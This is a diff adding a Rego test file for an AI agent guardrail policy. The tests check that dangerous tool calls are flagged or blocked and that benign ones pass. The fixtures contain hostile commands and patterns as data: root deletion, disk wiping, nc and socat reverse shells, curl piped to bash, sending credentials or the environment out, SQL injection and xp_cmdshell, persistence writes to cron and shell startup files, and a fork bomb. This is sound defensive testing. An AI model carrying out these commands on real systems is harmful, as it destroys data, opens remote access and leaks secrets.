@@ -1,0 +1,199 @@
+package defenseclaw.guardrail_facts_test
+
+import data.defenseclaw.guardrail
+
+_none := {
+	"commands": [],
+	"reads": [],
+	"writes": [],
+	"hosts": [],
+	"flows": [],
+	"sql": [],
+	"code": [],
+	"recursions": [],
+	"truncated": false,
+}
+
+_request(facts) := {"direction": "tool_call", "mode": "action", "facts": object.union(_none, facts)}
+
+_command(name, operands, flags) := {
+	"name": name,
+	"operands": operands,
+	"flags": flags,
+	"via": [],
+	"sure": true,
+	"text": concat(" ", array.concat([name], operands)),
+}
+
+_ids(facts) := ids if {
+	found := guardrail.findings with input as _request(facts)
+	ids := {f.id | some f in found}
+}
+
+_action(facts) := action if {
+	action := guardrail.action with input as _request(facts)
+}
+
+test_no_facts_no_findings if not guardrail.findings with input as {"direction": "prompt", "mode": "action"}
+
+test_nothing_done_is_allowed if {
+	_ids({}) == set()
+	_action({}) == "allow"
+}
+
+test_command_is_found[id] if {
+	some id, command in {
+		"FACT-DELETE-ROOT": _command("rm", ["/"], ["r", "f"]),
+		"FACT-DELETE-ALL": _command("rm", ["*"], ["r"]),
+		"FACT-DELETE-FOUND": _command("find", ["/"], ["delete"]),
+		"FACT-DELETE-WINDOWS": _command("Remove-Item", [`C:\`], ["Recurse"]),
+		"FACT-WIPE-DISK": _command("mkfs.ext4", ["/dev/sda1"], []),
+		"FACT-OPEN-ROOT": _command("chmod", ["777", "/etc"], ["R"]),
+		"FACT-OPEN-SYSTEM": _command("chmod", ["777", "/etc/hosts"], []),
+		"FACT-DESTROY": _command("kubectl", ["delete", "ns", "prod"], []),
+		"FACT-REVERSE-SHELL": _command("nc", ["203.0.113.9"], ["e"]),
+		"FACT-RUN-DOWNLOAD-POWERSHELL": _command("iex", ["iwr", "x"], []),
+		"FACT-RUN-ENCODED-POWERSHELL": _command("powershell", ["-enc", "SQBFAFgAIABhAGIAYwA="], []),
+	}
+	id in _ids({"commands": [command]})
+}
+
+test_every_way_to_name_it_is_found if {
+	every command in [
+		_command("rm", ["/*"], ["r"]),
+		_command("rm", ["~/*"], ["recursive"]),
+		_command("socat", ["exec:/bin/sh", "tcp:203.0.113.9:1"], []),
+		_command("iptables", [], ["F"]),
+		_command("xmrig", [], []),
+		_command("shred", ["/dev/sda"], []),
+	] {
+		count(_ids({"commands": [command]})) > 0
+	}
+}
+
+test_honest_command_is_not_found if {
+	every command in [
+		_command("rm", ["./build", "node_modules"], ["r", "f"]),
+		_command("rm", ["/tmp/x"], ["r"]),
+		_command("find", ["."], ["delete"]),
+		_command("kubectl", ["delete", "pod", "x"], []),
+		_command("chmod", ["644", "/etc/hosts"], []),
+		_command("fdisk", ["/dev/sda"], ["l"]),
+		_command("git", ["push", "origin", "feature"], ["delete"]),
+	] {
+		_ids({"commands": [command]}) == set()
+	}
+}
+
+test_place_is_found[id] if {
+	some id, facts in {
+		"FACT-WRITE-DISK": {"writes": ["/dev/sda"]},
+		"FACT-REVERSE-SHELL": {"writes": ["/dev/tcp/203.0.113.9/1"]},
+		"FACT-READ-SECRET": {"reads": ["~/.aws/credentials"]},
+		"FACT-READ-SENSITIVE": {"reads": ["app/.env"]},
+		"FACT-WRITE-PERSISTENCE": {"writes": ["/etc/cron.d/x"]},
+		"FACT-WRITE-STARTUP": {"writes": ["~/.zshrc"]},
+		"FACT-WRITE-MEMORY": {"writes": ["repo/CLAUDE.md"]},
+	}
+	places := {kind: [{"path": path, "by": "x", "sure": true} | some path in paths] | some kind, paths in facts}
+	id in _ids(places)
+}
+
+test_public_key_is_no_secret if {
+	_ids({"reads": [{"path": "~/.ssh/id_ed25519.pub", "by": "cat", "sure": true}]}) == set()
+}
+
+test_name_counts_as_a_whole if {
+	every path in ["app/.env.example", "etc/shadow", "my.npmrc"] {
+		_ids({"reads": [{"path": path, "by": "cat", "sure": true}]}) == set()
+	}
+}
+
+_flow(kind, from, reads, into) := {"kind": kind, "from": from, "reads": reads, "into": into, "sure": true}
+
+test_flow_is_found[id] if {
+	some id, flow in {
+		"FACT-RUN-DOWNLOAD": _flow("runs", ["curl"], [], "bash"),
+		"FACT-RUN-DECODED": _flow("runs", ["base64"], [], "sh"),
+		"FACT-REVERSE-SHELL": _flow("gets", ["sh"], [], "nc"),
+		"FACT-SEND-SECRET": _flow("gets", ["cat"], ["~/.netrc"], "curl"),
+		"FACT-SEND-ENVIRONMENT": _flow("gets", ["env"], [], "curl"),
+	}
+	id in _ids({"flows": [flow]})
+	_action({"flows": [flow]}) == "block"
+}
+
+test_what_is_only_got_is_not_run if _ids({"flows": [_flow("gets", ["curl"], [], "bash")]}) == set()
+
+test_file_that_was_downloaded_is_run if {
+	_ids({
+		"writes": [{"path": "/tmp/x", "by": "curl", "sure": true}],
+		"commands": [_command("bash", ["/tmp/x"], [])],
+	}) == {"FACT-RUN-SAVED-DOWNLOAD"}
+}
+
+test_host_is_found[id] if {
+	some id, host in {"FACT-SEND-TO-COLLECTOR": "x.webhook.site", "FACT-READ-METADATA": "169.254.169.254"}
+	_ids({"hosts": [{"host": host, "by": "curl"}]}) == {id}
+}
+
+_statement(text) := {
+	"words": split(text, " "),
+	"where": contains(text, "WHERE"),
+	"always": contains(text, "1 = 1"),
+	"sure": true,
+}
+
+test_statement_is_found[text] if {
+	some text, id in {
+		"DROP DATABASE PROD": "FACT-SQL-DROP",
+		"DROP TABLE USERS": "FACT-SQL-DROP-TABLE",
+		"DELETE FROM USERS": "FACT-SQL-EMPTY",
+		"DELETE FROM USERS WHERE 1 = 1": "FACT-SQL-EMPTY",
+		"UPDATE USERS SET ADMIN = 1": "FACT-SQL-UPDATE-ALL",
+		"SELECT * FROM USERS WHERE X OR 1 = 1": "FACT-SQL-INJECTION",
+		"EXEC XP_CMDSHELL": "FACT-SQL-SHELL",
+		"SELECT A UNION SELECT TABLE_NAME FROM INFORMATION_SCHEMA.TABLES": "FACT-SQL-SPY",
+		"GRANT ALL ON X TO Y": "FACT-SQL-GRANT",
+	}
+	id in _ids({"sql": [_statement(text)]})
+}
+
+test_honest_statement_is_not_found if {
+	every text in ["SELECT * FROM USERS WHERE ID = 7", "DELETE FROM USERS WHERE ID = 7", "CREATE TABLE X", "DROP INDEX X"] {
+		_ids({"sql": [_statement(text)]}) == set()
+	}
+}
+
+_code(names) := {"language": "python", "names": names, "sure": true}
+
+test_code_is_found if {
+	_ids({"code": [_code(["socket.socket", "os.dup2"])]}) == {"FACT-REVERSE-SHELL"}
+	_ids({"code": [_code(["exec", "base64.b64decode"])]}) == {"FACT-RUN-DECODED"}
+	_ids({"code": [_code(["shutil.rmtree"])], "reads": [{"path": "/", "by": "python", "sure": true}]}) == {"FACT-DELETE-ROOT"}
+	_ids({"code": [_code(["json.loads", "open"])]}) == set()
+}
+
+test_fork_bomb_and_too_much_are_found if {
+	_ids({"recursions": [":"]}) == {"FACT-FORK-BOMB"}
+	_ids({"truncated": true}) == {"FACT-TRUNCATED"}
+}
+
+test_text_that_only_reads_like_a_command_is_never_blocked if {
+	command := object.union(_command("rm", ["/"], ["r"]), {"sure": false})
+	_action({"commands": [command]}) == "alert"
+	decision := guardrail with input as _request({"commands": [command]})
+	decision.severity == "HIGH"
+}
+
+test_facts_are_named_in_reason_and_sources if {
+	decision := guardrail with input as _request({"commands": [_command("rm", ["/"], ["r"])]})
+	decision.reason == "tool-facts: Deletes a root, home or system folder"
+	decision.scanner_sources == {"opa-policy", "tool-facts"}
+}
+
+test_facts_without_lists_are_weighed_all_the_same if {
+	decision := guardrail with input as _request({"recursions": [":"]})
+		with data.guardrail as object.remove(data.guardrail, ["facts"])
+	decision.action == "block"
+}
